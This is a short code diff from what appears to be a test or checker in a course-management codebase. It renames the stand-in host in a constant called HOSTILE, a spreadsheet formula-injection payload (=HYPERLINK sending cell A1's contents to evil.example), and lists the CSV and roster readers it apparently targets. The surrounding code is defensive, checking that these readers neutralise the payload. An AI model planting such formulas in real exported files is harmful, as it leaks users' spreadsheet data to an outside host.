@@ -26,7 +26,7 @@ from worker.commands.root import Exit, tilelab
 __all__ = ["portal"]
 
 ROOT = Path(kernels.__file__).parent.parent
-HOSTILE = '=HYPERLINK("http://evil/?"&A1,"x")'
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 READERS = {
     "server/staff/assignments/extension_file.py",
     "server/staff/roster/csv_file.py",
